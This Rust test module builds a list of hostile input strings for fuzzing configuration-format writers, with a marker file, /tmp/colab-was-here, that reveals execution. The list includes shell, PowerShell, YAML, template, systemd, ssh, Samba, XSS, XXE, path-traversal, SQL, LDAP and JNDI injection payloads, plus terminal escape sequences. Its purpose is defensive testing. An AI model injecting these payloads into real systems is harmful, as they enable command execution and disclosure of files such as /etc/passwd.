//! The hostile texts: those that the formats are tried with one by one, and more for the tools that come
//! after a format. Those that would run something would leave `/tmp/colab-was-here` behind.

use std::collections::BTreeSet;

/// All of them, no two equal.
pub fn strings() -> Vec<String> {
    let mut all = crate::formats::hostile::strings();
    all.retain(|text| text.len() < LONG);
    all.extend(MORE.iter().map(|text| text.to_string()));
    // Every plane: its first letters, and a combining mark on the last.
    all.extend((0..=16u32).map(|plane| {
        let letters = (0x61..0x64).filter_map(|low| char::from_u32(plane * 0x1_0000 + low));
        letters.chain(['\u{0308}']).collect()
    }));
    all.push(('\u{80}'..='\u{9f}').collect());
    all.push(('\u{300}'..='\u{36f}').collect());
    all.push("x".repeat(1 << 12));
    all.push("a\\\"'`$%{}#\u{e9}".repeat(200));
    all.push("x".repeat(1 << 16));
    all.push("a $(id) {{ 7 }} \u{e9} ".repeat(3_000));
    let mut met = BTreeSet::new();
    all.retain(|text| met.insert(text.clone()));
    all
}

const LONG: usize = 20_000;

const MORE: &[&str] = &[
    // Shells.
    "$(touch /tmp/colab-was-here >&2)",
    "`touch /tmp/colab-was-here`",
    "'; touch /tmp/colab-was-here; '",
    "\"; touch /tmp/colab-was-here; \"",
    "'$(touch /tmp/colab-was-here)'",
    "\\'; touch /tmp/colab-was-here #",
    "x\ntouch /tmp/colab-was-here\n",
    "x || touch /tmp/colab-was-here",
    "$'\\x41'",
    "${IFS}",
    "${!x}",
    "{a,b}",
    "a*b?[c]",
    "!!",
    "EOF",
    "\nEOF\ntouch /tmp/colab-was-here\n",
    "<<'COLAB'",
    "-e",
    "--",
    "-rf /",
    "&&",
    "2>&1",
    // PowerShell and cmd.
    "$env:USERNAME",
    "$(New-Item /tmp/colab-was-here)",
    "@'\nhi\n'@",
    "@\"\nhi\n\"@",
    "a`nb",
    "\u{2018}; New-Item /tmp/colab-was-here; \u{2019}",
    "\u{201c}$(New-Item /tmp/colab-was-here)\u{201d}",
    "%PATH%",
    "%USERNAME%!PATH!^&",
    "%~dp0",
    // YAML.
    "a: [b",
    "- {a: b}",
    "!!python/object/apply:os.system ['touch /tmp/colab-was-here']",
    "!vault |",
    "%YAML 1.1",
    "%TAG ! x",
    "---\na: b",
    "...\na: b",
    "|\n  a",
    ">-\n  a",
    "|",
    ">",
    "190:20:30",
    "2001-12-14t21:59:43.10-05:00",
    "0777",
    "0o777",
    "0xC",
    "685_230.15",
    "NO",
    "Off",
    "NULL",
    ".Inf",
    ".NaN",
    "=",
    "<<: *a",
    "key: value # note",
    "@directive",
    "`tick",
    // Templates.
    "{{ 7 * 7 }}",
    "{{ lookup('ansible.builtin.pipe', 'touch /tmp/colab-was-here') }}",
    "{{ cycler.__init__.__globals__.os.popen('touch /tmp/colab-was-here') }}",
    "{% for x in [1] %}a{% endfor %}",
    "{%- set x = 1 -%}",
    "#} {{ x }}",
    "{{- .chezmoi.hostname -}}",
    "{{ output \"touch\" \"/tmp/colab-was-here\" }}",
    "{{ include \"../model.json\" }}",
    "chezmoi:template:left-delimiter=[[",
    "{{ exec(command='touch /tmp/colab-was-here') }}",
    "{{ env.HOME }}",
    "{{ $labels.instance }}",
    "{{ $value | humanize }}",
    "{{ printf \"%s\" \"x\" }}",
    "{{/* note */}}",
    "{{ end }}",
    "{{`{{`}}",
    "{{ raw }}{% endraw %}{{ x }}",
    // Caddy.
    "{http.request.uri.query}",
    "{file./etc/hostname}",
    "{args[0]}",
    "{block}",
    "{\n\trespond \"x\"\n}",
    "}\nevil.example.org {\n\trespond \"x\"\n}",
    "import /etc/passwd",
    "(snippet)",
    "`{env.HOME}`",
    "<<HTML",
    "\\{x\\}",
    // systemd.
    "%i.%I %t %%",
    "x\nExecStartPre=touch /tmp/colab-was-here",
    "x\\\nExecStart=/bin/false",
    "[Service]\nExecStart=/bin/false",
    "$MAINPID",
    "\\x20",
    "-/bin/true",
    "+x",
    ";touch",
    // ssh, fstab, hosts, dnsmasq.
    "%d/%r@%h:%p",
    "ProxyCommand touch /tmp/colab-was-here",
    "x\nProxyCommand touch /tmp/colab-was-here",
    "Match exec \"touch /tmp/colab-was-here\"",
    "a b\\040c",
    "/mnt/a\tb",
    "LABEL=x",
    "a,exec,suid",
    "x,1.2.3.4",
    "address=/#/1.2.3.4",
    "conf-file=/etc/passwd",
    "dhcp-script=/tmp/x",
    // Samba.
    "%U",
    "%$(HOME)",
    "\n[evil]\npath = /",
    "[global]",
    "include = /etc/passwd",
    "a ; b",
    // Groups, Prometheus.
    "n[1-3]",
    "@all",
    "@source:group",
    "a!b^c&d",
    "node{1..9}",
    "{job=~\".*\"}",
    "sum(up) by (x)",
    // INI, TOML, plist, JSON.
    "[a.b]",
    "'''",
    "\"\"\"",
    "a = \"b\"",
    "\\U0001F600",
    "\\u0000",
    "]]></string><key>x</key><string>",
    "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "&lt;&#x41;&amp;",
    "{\"a\": 1}",
    "\"}, \"evil\": {\"a\": \"",
    // Pages and pictures.
    "<script>document.title='colab'</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)",
    "-->",
    "<!--",
    "</textarea></title></style>",
    "<?xml version=\"1.0\"?>",
    "[x](javascript:alert(1))",
    "![x](http://192.0.2.1/x.png)",
    "<http://192.0.2.1>",
    "http://192.0.2.1/x",
    "data:text/html,<script>alert(1)</script>",
    "\\u003cscript\\u003e",
    "# Title",
    "Title\n=====",
    "<<<<<<< HEAD\na\n=======\nb\n>>>>>>> main",
    "\u{202e}txt.exe",
    // Paths and names.
    "../../../etc/shadow",
    "..\\..\\windows",
    "/etc/passwd",
    "//evil/share",
    "\\\\evil\\c$",
    "C:\\Windows\\System32",
    "~root/.ssh/id",
    "CON",
    "nul.txt",
    "a/./b//c/",
    ".",
    "..",
    ".git",
    "file:///etc/passwd",
    "a:b:ro",
    "unix:///var/run/docker.sock",
    // SQL, LDAP, logs.
    "'; DROP TABLE nodes; --",
    "1 OR 1=1",
    "*)(uid=*",
    "${jndi:ldap://192.0.2.1/a}",
    "%0d%0aSet-Cookie: a=b",
    "%2e%2e%2f",
    // Characters.
    "a\u{0}b\u{1}c",
    "\u{1b}]52;c;ZXZpbA==\u{7}",
    "\u{9b}31m",
    "a\u{200d}b\u{2060}c",
    "\u{fdd0}\u{1fffe}",
    "\u{e0041}\u{e007f}",
    "\u{fe0f}\u{20e3}",
    "Z\u{351}\u{346}a\u{36b}l\u{308}go",
    "\u{212a}\u{17f}\u{131}",
    "\u{ff04}\u{ff08}\u{ff09}\u{ff5b}\u{ff5d}",
    "\u{3000}\u{2003}\u{1680}",
    "\u{b}\u{c}",
    "a\u{ad}b",
];

#[test]
fn there_are_enough_of_them() {
    assert!(strings().len() >= 250, "{}", strings().len());
}
